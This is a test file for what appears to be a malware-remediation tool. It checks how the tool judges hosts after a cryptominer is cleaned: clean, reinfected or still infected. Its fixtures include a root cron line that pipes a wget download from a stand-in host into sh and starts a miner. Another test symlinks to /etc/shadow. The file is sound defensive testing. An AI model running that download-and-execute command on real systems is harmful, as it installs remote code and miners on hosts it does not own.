import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Finding } from '../../../src/findings/types.js';
import { cleaningFinished, judgeVerification } from '../../../src/remediate/verify.js';
import { hostOutcome } from '../../../src/findings/outcome.js';
import { planEvidence } from '../../../src/remediate/evidence.js';
import { parseEvidence } from '../../../src/remediate/evidence-frame.js';

const cron: Finding = {
  rule: 'cron.download-pipe-shell', severity: 'critical', title: 'cron downloads and runs a script', host: 'h', evidence: [], iocs: [], remedy: '',
  artifacts: [{ type: 'cron-line', path: '/var/spool/cron/crontabs/root', lineNumber: 2, line: '* * * * * wget -q -O - http://x/d.sh | sh; /tmp/kdevtmpfsi' }],
};
const proc: Finding = {
  rule: 'process.known-miner', severity: 'critical', title: 'miner running', host: 'h', evidence: [], iocs: [], remedy: '',
  artifacts: [{ type: 'process', pid: 913, comm: 'kdevtmpfsi', exe: '/tmp/kdevtmpfsi', startTime: 1, role: 'miner' }],
};
const redis: Finding = { ...cron, rule: 'redis.unauthenticated', artifacts: [{ type: 'redis', configPath: '/etc/redis.conf', listen: ['0.0.0.0:6380'], pid: 3 }] };

describe('judgeVerification', () => {
  it('is clean when only exposure findings (left to harden) remain', () => {
    expect(judgeVerification([redis]).state).toBe('clean');
  });
  it('names the respawned process and the cron line it came from', () => {
    const v = judgeVerification([proc, cron, redis]);
    expect(v.state).toBe('reinfected');
    expect(v.comebacks[0]!.what).toBe('process kdevtmpfsi (pid 913, /tmp/kdevtmpfsi)');
    expect(v.comebacks[0]!.from[0]).toMatch(/^cron line 2 of \/var\/spool\/cron\/crontabs\/root: /);
  });
  it('calls a host whose cleaning did not finish still infected, not reinfected: nothing came back, it never left', () => {
    const v = judgeVerification([proc, cron, redis], { finished: false });
    expect(v).toMatchObject({ state: 'infected', comebacks: [] });
    expect(v.findings.map((f) => f.rule)).toEqual(['process.known-miner', 'cron.download-pipe-shell']);
    expect(judgeVerification([redis], { finished: false }).state).toBe('clean');
    const outcome = hostOutcome({ status: 'unreachable', findings: [proc, cron], verdict: 'infected', verification: { state: 'infected', findings: v.findings } });
    expect(outcome).toMatchObject({ verdict: 'infected', before: 'infected' });
    expect(outcome.why).toMatch(/^the cleaning did not finish; still there when checked again: miner running/);
  });
  it('counts a cleaning as finished unless the host was lost or a cleaning task (not the immediate check) failed', () => {
    const tasks = (failed: string[]) => ['evidence', 'contain', 'persistence', 'processes', 'verify'].map((task) => ({ task, status: failed.includes(task) ? 'failed' : 'changed' })) as never;
    expect(cleaningFinished({ status: 'changed', tasks: tasks([]) })).toBe(true);
    expect(cleaningFinished({ status: 'failed', tasks: tasks(['verify']) })).toBe(true);
    expect(cleaningFinished({ status: 'failed', tasks: tasks(['processes']) })).toBe(false);
    expect(cleaningFinished({ status: 'unreachable', tasks: tasks([]) })).toBe(false);
  });
});

describe('evidence', () => {
  it('reads files back byte-exact through the frame, absent ones marked', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'ms-ev-'));
    const f = path.join(dir, 'bin\nary');
    const bytes = Buffer.from([0, 10, 255, 77, 83, 69, 32, 10]);
    writeFileSync(f, bytes);
    const link = path.join(dir, 'shadow-link');
    symlinkSync('/etc/shadow', link);
    const step = planEvidence([{ type: 'file', path: f, reason: 'x' }, { type: 'file', path: path.join(dir, 'gone'), reason: 'y' }, { type: 'file', path: link, reason: 'z' }], { quarantineDir: path.join(dir, 'q') })[0]!;
    const r = spawnSync('/bin/sh', ['-c', step.command]);
    expect(r.status).toBe(0);
    const items = parseEvidence(r.stdout);
    expect(items).toHaveLength(3);
    expect(items[0]!.path).toBe(f);
    expect(items[0]!.content).toEqual(bytes);
    expect(items[1]!.content).toBeNull();
    // a symlink is recorded by its target, never read through
    expect(items[2]).toMatchObject({ path: link, content: null, linkTarget: '/etc/shadow' });
  });
});

describe('closing sockets of killed processes', () => {
  it('do not count as a comeback; a live connection does', () => {
    const conn = (state: string, pid?: number): Finding => ({
      rule: 'net.miner-port-connection', severity: 'high', title: 'Connection to mining port', host: 'h', iocs: [], remedy: '',
      evidence: [{ kind: 'socket', text: `tcp 10.0.0.2:47924 -> 10.0.0.9:3333 ${state} `, ...(pid ? { pid } : {}) }],
      artifacts: [{ type: 'egress', address: '10.0.0.9', port: 3333 }],
    });
    expect(judgeVerification([conn('FIN-WAIT-1')]).state).toBe('clean');
    expect(judgeVerification([conn('ESTAB', 77)]).state).toBe('reinfected');
  });
});
